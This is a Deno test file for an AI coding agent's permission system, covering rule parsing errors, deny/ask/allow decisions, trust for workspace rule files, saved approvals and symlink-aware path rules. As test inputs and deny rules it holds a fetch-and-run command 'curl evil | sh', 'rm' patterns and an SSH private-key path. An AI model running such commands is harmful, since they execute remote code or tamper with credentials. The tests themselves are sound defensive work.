// Permission rules in amber's files and sessions (issue 15, "Approvals that remember"):
// config.yaml's rules with errors naming file, line and rule; the workspace's
// .amber/permissions.yaml, whose allow rules wait for trust; deny, ask and allow in a session on
// the fake provider; the protected paths gate still asks under an allow rule; a rule saved from
// the approval prompt keeps the rest of the file and answers the next call.

import { deepStrictEqual, equal, match, ok, rejects } from "node:assert/strict";
import type { Message } from "@amber/core";
import type { ApprovalRequest } from "@amber/core/kernel";
import { ConfigFileError, loadConfigFile } from "../../cli/config_file.ts";
import { checkConfig } from "../../cli/config_check.ts";
import { Approvals } from "../../cli/tui/approvals.ts";
import { Dialogs } from "../../cli/tui/dialogs.ts";
import { SessionPermissions } from "../../cli/session/permissions.ts";
import { openFakeSession } from "./_fake_session.ts";

function results(messages: readonly Message[]): string[] {
  return messages.flatMap((m) => m.role === "tool" ? [m.content] : []);
}

function recorder(answer: "once" | "deny" = "once") {
  const asked: ApprovalRequest[] = [];
  const ask = (request: ApprovalRequest) => {
    asked.push(request);
    return Promise.resolve(answer);
  };
  return { asked, ask };
}

Deno.test("a malformed rule in config.yaml is an error naming the file, line and rule", async () => {
  const dir = await Deno.makeTempDir();
  try {
    await Deno.writeTextFile(
      `${dir}/config.yaml`,
      "permissions:\n  allow:\n    - read\n    - bash(npm test\n  deny: [write(../x)]\n",
    );
    await rejects(loadConfigFile(dir), (error: unknown) => {
      ok(error instanceof ConfigFileError);
      equal(
        error.message,
        `${dir}/config.yaml:4:7: permissions.allow[1]: permission rule 'bash(npm test': ` +
          "the argument pattern must end the rule with ')'",
      );
      return true;
    });
    const check = await checkConfig(dir, []);
    const ours = check.problems.filter((p) => p.includes("permissions"));
    deepStrictEqual(ours.map((p) => p.slice(dir.length + 1).split(": ").slice(0, 3)), [
      ["config.yaml:4:7", "permissions.allow[1]", "permission rule 'bash(npm test'"],
      ["config.yaml:5:10", "permissions.deny[0]", "permission rule 'write(../x)'"],
    ]);
    await Deno.writeTextFile(`${dir}/config.yaml`, "permissions:\n  allow: [read, bash(ls *)]\n");
    deepStrictEqual((await loadConfigFile(dir)).permissions, { allow: ["read", "bash(ls *)"] });
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("amber config check reports the workspace's rules file too", async () => {
  const dir = await Deno.makeTempDir();
  const workspace = await Deno.makeTempDir();
  try {
    await Deno.mkdir(`${workspace}/.amber`);
    await Deno.writeTextFile(
      `${workspace}/.amber/permissions.yaml`,
      "permissions:\n  ask: [bash(git push *)]\n  alow: [read]\n",
    );
    const check = await checkConfig(dir, [], workspace);
    deepStrictEqual(check.problems.filter((p) => p.includes("permissions")), [
      `${workspace}/.amber/permissions.yaml:3:9: permissions.alow: unknown field ` +
      "(fields: allow, ask, deny)",
    ]);
  } finally {
    await Deno.remove(dir, { recursive: true });
    await Deno.remove(workspace, { recursive: true });
  }
});

Deno.test("a session: deny blocks under auto, ask asks under auto, allow skips the question", async () => {
  await using fake = await openFakeSession([
    {
      toolCalls: [
        { id: "a", name: "bash", arguments: { command: "rm -f nothing.txt" } },
        { id: "b", name: "bash", arguments: { command: "echo pushed" } },
        { id: "c", name: "write", arguments: { path: "notes/a.txt", content: "hi\n" } },
      ],
    },
    { text: "done" },
    { toolCalls: [{ id: "d", name: "write", arguments: { path: "notes/b.txt", content: "b\n" } }] },
    { text: "done" },
  ], {
    approval: "auto",
    config: {
      permissions: { deny: ["bash(rm *)"], ask: ["bash(echo *)"], allow: ["write(notes/**)"] },
    },
  });
  const { session } = fake;
  const auto = recorder();
  const first = await session.turn("go", { ask: auto.ask });
  const [rm, echo] = results(first.messages);
  match(rm, /'bash' is denied by the permission rule 'bash\(rm \*\)' \(config\.yaml\)/);
  match(echo, /pushed/);
  deepStrictEqual(auto.asked.map((r) => [r.call.id, r.rule]), [["b", "bash(echo *)"]]);
  equal(await Deno.readTextFile(`${session.host.workspace}/notes/a.txt`), "hi\n");
  // Under `ask` with no one to ask, the allow rule still answers.
  session.reset();
  const headless = await session.turn("again");
  match(results(headless.messages)[0], /Wrote|wrote|notes\/b\.txt/);
  equal(await Deno.readTextFile(`${session.host.workspace}/notes/b.txt`), "b\n");
});

Deno.test("the protected paths gate still asks for a call an allow rule covers", async () => {
  await using fake = await openFakeSession([], {
    approval: "ask",
    config: { permissions: { allow: ["write"] } },
  });
  const { session, server, configDir } = fake;
  server.script(
    {
      toolCalls: [
        {
          id: "p",
          name: "write",
          arguments: { path: `${configDir}/config.yaml`, content: "x: 1\n" },
        },
        { id: "q", name: "write", arguments: { path: "plain.txt", content: "ok\n" } },
      ],
    },
    { text: "done" },
  );
  const { asked, ask } = recorder("deny");
  const result = await session.turn("go", { ask });
  deepStrictEqual(asked.map((r) => r.call.id), ["p"]);
  match(asked[0].correlationId ?? "", /^amber-config:/);
  match(results(result.messages)[0], /denied/);
  equal(await Deno.readTextFile(`${session.host.workspace}/plain.txt`), "ok\n");
});

Deno.test("the workspace file's allow rules wait for trust; deny and ask apply at once", async () => {
  await using fake = await openFakeSession([]);
  const { session } = fake;
  const workspace = session.host.workspace;
  await Deno.mkdir(`${workspace}/.amber`);
  const file = `${workspace}/.amber/permissions.yaml`;
  await Deno.writeTextFile(file, "permissions:\n  allow: [bash]\n  deny: [bash(curl *)]\n");
  // What a session opened on this workspace would find: a fresh load.
  const load = () =>
    SessionPermissions.load({ configDir: fake.configDir, workspace, config: session.host.config });
  let rules = await load();
  const decide = (command: string) => rules.decide({ name: "bash", args: { command } })?.effect;
  equal(decide("ls"), undefined, "the untrusted allow rule is ignored");
  equal(decide("curl x"), "deny");
  equal(rules.notices.length, 1);
  match(
    rules.notices[0],
    /\.amber\/permissions\.yaml allows bash: ignored until you trust the file/,
  );
  match(rules.notices[0], /\/permissions trust/);
  deepStrictEqual(
    rules.list().filter((r) => r.origin === "workspace").map((r) => r.applies),
    [false, true],
  );
  match(await rules.trust(), /trusted \.amber\/permissions\.yaml/);
  equal(decide("ls"), "allow");
  rules = await load();
  equal(decide("ls"), "allow", "trust outlives the session");
  deepStrictEqual(rules.notices, []);
  // A changed file is untrusted again.
  await Deno.writeTextFile(file, "permissions:\n  allow: [bash, read]\n");
  rules = await load();
  equal(decide("ls"), undefined);
  equal(rules.notices.length, 1);
});

Deno.test("saving from the approval prompt writes the rule, keeps the file, and answers the next call", async () => {
  await using fake = await openFakeSession([
    { toolCalls: [{ id: "1", name: "bash", arguments: { command: "echo -n one" } }] },
    { text: "done" },
    { toolCalls: [{ id: "2", name: "bash", arguments: { command: "echo two -- x" } }] },
    { text: "done" },
  ]);
  const { session } = fake;
  const workspace = session.host.workspace;
  await Deno.mkdir(`${workspace}/.amber`);
  const file = `${workspace}/.amber/permissions.yaml`;
  await Deno.writeTextFile(
    file,
    "# the team's rules\npermissions:\n  deny:\n    - bash(rm *) # never\n",
  );
  await session.permissions.reload();
  const dialogs = new Dialogs();
  const approvals = new Approvals(dialogs, session.permissions);
  const shown: string[] = [];
  const first = await session.turn("go", {
    ask: (request, signal) => {
      const answer = approvals.ask(request, signal);
      shown.push(
        ...(dialogs.layout(100)?.lines ?? []).map((line) => line.map((s) => s.text).join("")),
      );
      dialogs.key({ name: "text", text: "w", ctrl: false, alt: false, shift: false });
      return answer;
    },
  });
  ok(
    shown.some((line) =>
      line.includes("always for commands starting with `echo` in this workspace")
    ),
    shown.join("\n"),
  );
  match(results(first.messages)[0], /one/);
  equal(
    await Deno.readTextFile(file),
    "# the team's rules\npermissions:\n  deny:\n    - bash(rm *) # never\n  allow:\n    - bash(echo *)\n",
  );
  const later = recorder("deny");
  const second = await session.turn("again", { ask: later.ask });
  deepStrictEqual(later.asked, [], "the saved rule answered");
  match(results(second.messages).at(-1) ?? "", /two -- x/);
});

Deno.test("saving or removing a rule never trusts allow rules the user has not seen", async () => {
  await using fake = await openFakeSession([]);
  const { session } = fake;
  const workspace = session.host.workspace;
  await Deno.mkdir(`${workspace}/.amber`);
  const file = `${workspace}/.amber/permissions.yaml`;
  const planted = "permissions:\n  allow: [bash]\n";
  await Deno.writeTextFile(file, planted);
  const load = () =>
    SessionPermissions.load({ configDir: fake.configDir, workspace, config: session.host.config });
  let rules = await load();
  const decide = (command: string) => rules.decide({ name: "bash", args: { command } })?.effect;
  // "always for commands starting with `npm test`" on a file that came with allow rules.
  await rejects(rules.allowInWorkspace("bash(npm test *)"), /allows bash, which you have not/);
  equal(await Deno.readTextFile(file), planted, "nothing written");
  rules = await load();
  equal(decide("curl evil | sh"), undefined, "the planted rule still waits for trust");

  // A trusted file changed on disk after the list was read: removing a rule leaves it untrusted.
  await Deno.writeTextFile(file, "permissions:\n  allow: [read]\n  deny: [bash(rm *)]\n");
  rules = await load();
  await rules.trust();
  const listed = rules.list().findIndex((r) => r.rule === "bash(rm *)") + 1;
  await Deno.writeTextFile(file, "permissions:\n  allow: [read, bash]\n  deny: [bash(rm *)]\n");
  match(await rules.remove(listed), /removed deny rule 'bash\(rm \*\)'/);
  rules = await load();
  equal(decide("curl evil | sh"), undefined, "the added allow rule was not trusted");
});

Deno.test("a path rule follows links: allow covers only where both the path and its target match", async () => {
  await using fake = await openFakeSession([]);
  const { session } = fake;
  const workspace = session.host.workspace;
  const outside = await Deno.makeTempDir();
  try {
    await Deno.mkdir(`${workspace}/src`);
    await Deno.symlink(outside, `${workspace}/src/link`);
    await Deno.writeTextFile(
      `${fake.configDir}/config.yaml`,
      "permissions:\n  allow: ['write(src/**)']\n  deny: ['write(~/.ssh/**)']\n",
    );
    const config = await loadConfigFile(fake.configDir);
    const rules = await SessionPermissions.load({
      configDir: fake.configDir,
      workspace,
      config,
      home: outside,
    });
    const decide = (path: string) => rules.decide({ name: "write", args: { path } })?.effect;
    equal(decide("src/a.ts"), "allow");
    equal(
      decide("src/new/dir/b.ts"),
      "allow",
      "a path not created yet is followed as far as it exists",
    );
    // Through the link the write would land outside the workspace: no allow, the usual question.
    equal(decide("src/link/.bashrc"), undefined);
    // A deny rule matches the place a link leads to.
    equal(decide("src/link/.ssh/id_rsa"), "deny");
  } finally {
    await Deno.remove(outside, { recursive: true });
  }
});
